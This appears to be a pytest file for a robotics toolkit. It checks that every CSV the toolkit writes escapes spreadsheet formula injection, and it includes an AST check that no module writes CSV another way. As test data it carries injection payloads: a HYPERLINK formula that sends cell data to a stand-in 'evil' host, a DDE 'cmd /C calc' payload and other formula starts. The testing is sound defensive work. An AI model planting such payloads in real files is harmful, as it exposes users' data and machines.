"""The spreadsheet's gate (bras_kit.trust.inert.csv_text, docs/security.md "Cells for a spreadsheet"):
every CSV bras-kit writes (js.csv from ``run -o``, states.csv from ``motion -o``, grades.csv)
holds no cell a spreadsheet would evaluate, however the spreadsheet splits it, and its numbers
stay numbers.

Oracles: Python's csv module reading each file back with each separator a spreadsheet may use
(``,`` ``;`` tab, and with no quoting at all); OWASP's list of a formula's first characters
(owasp.org/www-community/attacks/CSV_Injection) and ASVS 1.2.10's NUL, with their full-width
forms; Python's ``ast`` over bras-kit's source for a CSV written another way."""

from __future__ import annotations

import ast
import csv
import io
import math
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from paths import REPO

from bras_kit.trust.inert import csv_text, for_spreadsheet, from_spreadsheet

ROOT = REPO
# OWASP: = + - @ tab carriage return; ASVS: NUL; the line feed; and the full-width and small forms
FORMULA_STARTS = set("=+-@\t\r\n\x00") | set("\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b")
TRIMMED = " \u00a0\u2007\u202f\u3000"  # spaces a spreadsheet may trim before it judges a cell
DIALECTS = [",", ";", "\t", "|", " ", ":"]

formulaic = st.lists(st.one_of(st.sampled_from(sorted(FORMULA_STARTS | {"'", '"', ",", ";", " ", "|", ":",
                                                                         "\u00a0", "\u3000"})),
                               st.sampled_from(["=HYPERLINK(\"http://evil/?\"&A1)", "@SUM(1)", "+1", "-2+3",
                                                "=cmd|' /C calc'!A0", "DDE(\"cmd\")"]),
                               st.text(max_size=3)), min_size=1, max_size=10).map("".join)


def _evaluated(cell: str) -> bool:
    """Whether a spreadsheet would take ``cell`` (as it split it) for a formula."""
    head = cell.lstrip(TRIMMED)
    return bool(head) and head[0] in FORMULA_STARTS


def _cells_as_spreadsheets_split(text: str) -> list[str]:
    """Every cell of ``text`` as a spreadsheet could see it: read with csv's quotes for each
    separator, and split on each separator and line break with no quotes at all."""
    cells = []
    for delimiter in DIALECTS:
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            cells.extend(row)
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=csv.QUOTE_NONE):
            cells.extend(row)
        for line in text.replace("\r", "\n").split("\n"):
            cells.extend(line.split(delimiter))
            cells.extend(part.strip('"') for part in line.split(delimiter))
    return cells


@settings(max_examples=300, deadline=None)
@given(formulaic)
def test_no_cell_starts_a_formula_however_a_spreadsheet_splits_it(text):
    written = csv_text([("name", "value"), (text, 0.5)])
    assert [cell for cell in _cells_as_spreadsheets_split(written) if _evaluated(cell)] == []


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_the_text_reads_back_exactly(text):
    assert from_spreadsheet(for_spreadsheet(text)) == text
    [row] = csv.reader(io.StringIO(csv_text([(text, 1.0)]), newline=""))
    assert from_spreadsheet(row[0]) == text and float(row[1]) == 1.0


@settings(max_examples=200, deadline=None)
@given(st.floats(allow_nan=False), st.integers())
def test_numbers_stay_numbers(value, whole):
    [row] = csv.reader(io.StringIO(csv_text([(value, whole, -0.5)])))
    assert float(row[0]) == value and int(row[1]) == whole and row[2] == "-0.5"  # no quote before a minus


def test_a_cell_is_text_or_a_number():
    for wrong in (True, None, b"=1", [1]):
        with pytest.raises(TypeError):
            csv_text([(wrong,)])  # type: ignore[list-item]


# --- each CSV bras-kit writes ------------------------------------------------------------------

names = st.lists(formulaic.filter(lambda n: n.strip() == n and n), min_size=1, max_size=3, unique=True)


@settings(max_examples=60, deadline=None)
@given(names)
def test_states_csv_of_strangers_joint_names(joints):
    """states.csv (motion -o, run -o, simulate -o, render --record): the URDF's joint names."""
    from bras_kit.motion.core import JointStates
    from bras_kit.motion.states_io import _states_from_csv, states_to_csv

    states = JointStates(np.array([0.0, 0.05]), list(joints), np.full((2, len(joints)), -0.5),
                         np.zeros((2, len(joints))))
    text = states_to_csv(states)
    assert [cell for cell in _cells_as_spreadsheets_split(text) if _evaluated(cell)
            and cell.lstrip(TRIMMED)[:1] != "-"] == []  # a '-' is the start of -0.5, a number
    for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
        assert float(row[0]) in (0.0, 0.05) and row[2] == "-0.5"
        assert not _evaluated(row[1])
    back = _states_from_csv(text, "states.csv")
    assert back.names == list(joints) and back.positions.tolist() == states.positions.tolist()
    # with efforts (bras-kit simulate): one more number column
    states.efforts = np.full((2, len(joints)), -1.25)  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(states_to_csv(states), newline="")))
    assert rows[0][-1] == "effort" and all(row[-1] == "-1.25" for row in rows[1:])


@settings(max_examples=60, deadline=None)
@given(names)
def test_grades_csv_of_strangers_learner_names_and_errors(learners):
    from bras_kit.grade.report import grades_csv
    from bras_kit.grade.rubric import load_rubric

    rubric = load_rubric(None)
    results = [{"learner": name, "score": 7.5, "max": rubric.total, "items": {},
                "first_error": name + ";=1+1", "exercises": "=2/3"} for name in learners]
    text = grades_csv(results, rubric)
    assert [cell for cell in _cells_as_spreadsheets_split(text) if _evaluated(cell)] == []
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [from_spreadsheet(row["identifier"]) for row in rows] == list(learners)
    assert all(row["score"] == "7.5" and row["max"] == f"{rubric.total:g}" for row in rows)


def test_motion_writes_states_csv_whose_joint_names_are_text(tmp_path, run_cli):
    """motion -o on a URDF whose joint is named like a formula (the issue's case)."""
    from bras_kit.model.authoring import arm_urdf

    urdf = tmp_path / "arm.urdf"
    urdf.write_text(arm_urdf().replace('"epaule"', '"=HYPERLINK(1)"'))
    code, _, err = run_cli("motion", str(urdf), "--duration", "0.1", "-o", str(tmp_path / "states.csv"))
    assert code == 0, err
    text = (tmp_path / "states.csv").read_text()
    assert "'=HYPERLINK(1)" in text
    assert [c for c in _cells_as_spreadsheets_split(text) if _evaluated(c) and c.lstrip()[:1] != "-"] == []
    from bras_kit.motion import read_states

    assert "=HYPERLINK(1)" in read_states(str(tmp_path / "states.csv")).names  # read back by bras-kit itself


def test_run_writes_js_csv_whose_joint_names_are_text(tmp_path):
    """run -o js.csv: the names a node published (the issue's case), through a real process."""
    import os
    import subprocess
    import sys

    node = tmp_path / "node.py"
    node.write_text(
        "import rclpy\nfrom sensor_msgs.msg import JointState\n\n\ndef main():\n    rclpy.init()\n"
        "    node = rclpy.create_node('formulas')\n"
        "    pub = node.create_publisher(JointState, 'joint_states', 10)\n"
        "    message = JointState()\n    message.name = ['@SUM(1)', 'x;=1+1', '-2+3']\n"
        "    message.position = [-0.5, 0.25, 1.0]\n"
        "    node.create_timer(0.05, lambda: (setattr(message.header, 'stamp', node.get_clock().now().to_msg()),"
        " pub.publish(message)))\n    rclpy.spin(node)\n\n\nif __name__ == '__main__':\n    main()\n")
    env = {**os.environ, "LANGUAGE": "en", "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    done = subprocess.run(["bras-kit", "run", str(node), "--duration", "0.5", "-o", str(tmp_path / "js.csv")],
                          capture_output=True, text=True, timeout=180, cwd=tmp_path, env=env)
    text = (tmp_path / "js.csv").read_text()
    assert "'@SUM(1)" in text and "x;'=1+1" in text, done.stderr
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert {from_spreadsheet(row[1]) for row in rows} == {"@SUM(1)", "x;=1+1", "-2+3"}
    assert all(math.isfinite(float(row[2])) for row in rows) and {row[2] for row in rows} >= {"-0.5"}
    assert [c for c in _cells_as_spreadsheets_split(text) if _evaluated(c) and not _number(c)] == []


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# --- no CSV written another way ---------------------------------------------------------------

def _csv_writers(tree: ast.AST) -> list[str]:
    """csv.writer / csv.DictWriter (under any name the csv module is imported as), and any
    .writerow / .writerows call."""
    modules = {alias.asname or alias.name for node in ast.walk(tree) if isinstance(node, ast.Import)
               for alias in node.names if alias.name == "csv"}
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                and isinstance(node.value, ast.Name) and node.value.id in modules:
            found.append(node.attr)
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) \
                and node.func.attr in ("writerow", "writerows"):
            found.append(node.func.attr)
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found.extend(alias.name for alias in node.names if alias.name in ("writer", "DictWriter"))
    return found


def test_every_csv_bras_kit_writes_goes_through_the_gate():
    offenders = {}
    for path in sorted((ROOT / "bras_kit").rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if rel == "bras_kit/trust/inert.py":
            continue
        found = _csv_writers(ast.parse(path.read_text(encoding="utf-8")))
        if found:
            offenders[rel] = found
    assert offenders == {}, "write CSV with bras_kit.trust.inert.csv_text"


def test_the_check_finds_a_csv_writer():
    source = ("import csv as c\nw = c.writer(f)\nw.writerow([1])\nfrom csv import DictWriter\n"
              "figures.writer('a.png')\n")
    assert sorted(_csv_writers(ast.parse(source))) == ["DictWriter", "writer", "writerow"]


def test_the_csv_writers_are_known():
    """A CSV joined by hand (f"{time},{name}") escapes the AST check above: the modules that
    write CSV are named here, so that a new one is looked at."""
    writers = sorted(rel for path in (ROOT / "bras_kit").rglob("*.py")
                     if "csv_text(" in path.read_text(encoding="utf-8")
                     and (rel := path.relative_to(ROOT).as_posix()) != "bras_kit/trust/inert.py")
    assert writers == ["bras_kit/grade/report.py", "bras_kit/motion/states_io.py"]
